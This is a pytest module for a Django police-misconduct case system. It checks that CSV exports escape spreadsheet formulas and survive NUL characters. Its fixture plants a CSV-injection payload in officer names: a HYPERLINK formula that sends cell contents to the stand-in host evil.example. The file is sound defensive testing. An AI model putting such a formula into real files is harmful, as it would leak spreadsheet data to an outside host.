"""CSV exports are safe to open in a spreadsheet: a cell a spreadsheet would run as a formula is sent
as text (OWASP CSV injection: a leading single quote), and a NUL, in a filter or in a value, never
cuts a download short. Every export the URL resolver knows is checked, so a new one is covered too."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from cases.models import AllegationStatus, CaseStatus, EmploymentStatus
from cases.roles import Role
from cases.views import csv_response as _csv_response
from tests.conftest import sign_in
from tests.factories import AllegationFactory, CaseFactory, OfficerFactory, UserFactory
from tests.misconduct.test_permission_matrix import ENDPOINTS

pytestmark = pytest.mark.django_db

# The list exports. A CSV of one record's rows (a PND import's rejected rows, vetting:pnd_import_errors) takes
# the record's id; it is written by the same SafeWriter and tested with its import (tests/vetting).
EXPORTS = [e for e in ENDPOINTS if e.route.endswith(".csv") and "<" not in e.route]
# Exports of figures only, naming no one: the hostile names cannot appear in them (their own hostile
# labels are tested in tests/fairness/test_monitoring.py); the no-formula and NUL checks still apply.
AGGREGATE_EXPORTS = {"fairness:monitoring_export"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The filters the export views read (cases/filters.py `CaseFilter`, `AllegationFilter`).
FILTERS = [
    "q",
    "status",
    "severity",
    "category",
    "source",
    "command",
    "investigator",
    "older_than_days",
    "sort",
    "received_from",
    "received_to",
]


def test_the_walk_finds_the_exports():
    assert {e.name for e in EXPORTS} >= {
        "cases:case_export",
        "cases:barred_list_export",
        "cases:advisory_list_export",
        "cases:allegation_export",
    }


def body_of(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def hostile_names(db):
    """For every formula prefix: a dismissed officer, one who resigned under investigation, a case and
    an allegation, all carrying a name that a spreadsheet would run."""
    today = timezone.localdate()
    names = []
    for i, start in enumerate(FORMULA_STARTS):
        name = f'{start}HYPERLINK("http://evil.example/?x="&A1,"Open"){i}'
        names.append(name)
        dismissed = OfficerFactory(last_name=name, first_name=name, status=EmploymentStatus.DISMISSED, left_on=today)
        resigned = OfficerFactory(last_name=name, status=EmploymentStatus.RESIGNED, left_on=today)
        CaseFactory(subject=resigned, opened_at=timezone.now() - timedelta(days=30), status=CaseStatus.INVESTIGATION)
        CaseFactory(subject=dismissed)
        AllegationFactory(subject=dismissed, status=AllegationStatus.OPEN)
    return names


@pytest.mark.parametrize("export", EXPORTS, ids=lambda e: e.name)
def test_no_export_sends_a_cell_that_a_spreadsheet_would_run(client, hostile_names, export):
    sign_in(client, UserFactory(roles=[Role.SUPERVISOR]))
    response = client.get(reverse(export.name))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(body_of(response).decode())))
    dangerous = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert not dangerous, f"{export.name} sends formulas: {dangerous[:3]}"
    if export.name in AGGREGATE_EXPORTS:
        return
    cells = {cell for row in rows[1:] for cell in row}
    escaped = [name for name in hostile_names if "'" + name in cells]
    assert len(escaped) == len(hostile_names), f"{export.name}: expected every hostile name, quoted; got {escaped}"


@pytest.mark.parametrize("export", EXPORTS, ids=lambda e: e.name)
def test_a_nul_in_a_filter_never_cuts_an_export_short(client, hostile_names, export):
    sign_in(client, UserFactory(roles=[Role.SUPERVISOR]))
    client.raise_request_exception = False
    for name in FILTERS:
        response = client.get(reverse(export.name), {name: "S\x00"})
        try:
            body = body_of(response)
        except Exception as exc:  # the old failure: headers sent as 200, then the query failed mid-stream
            pytest.fail(f"{export.name}?{name}=NUL started a download and then broke off: {exc!r}")
        assert response.status_code in (200, 400), f"{export.name}?{name}=NUL answered {response.status_code}"
        if response.status_code == 200:
            assert body.count(b"\r\n") >= 1 and b"\x00" not in body


def test_the_csv_helper_drops_nul_characters_and_keeps_every_row():
    rows = [["a\x00b", 1], ["=\x00SUM(A1)", None], ["last", "row"]]
    body = b"".join(_csv_response(iter(rows), "x.csv", ["one", "two"]).streaming_content).decode()
    assert "\x00" not in body
    assert list(csv.reader(io.StringIO(body))) == [["one", "two"], ["ab", "1"], ["'=SUM(A1)", ""], ["last", "row"]]


def test_the_csv_helper_leaves_numbers_dates_and_plain_text_alone():
    day = timezone.localdate()
    body = b"".join(
        _csv_response(iter([[-5, day, "Smith-Jones", "O'Neil"]]), "x.csv", ["a", "b", "c", "d"]).streaming_content
    ).decode()
    assert list(csv.reader(io.StringIO(body)))[1] == ["-5", day.isoformat(), "Smith-Jones", "O'Neil"]
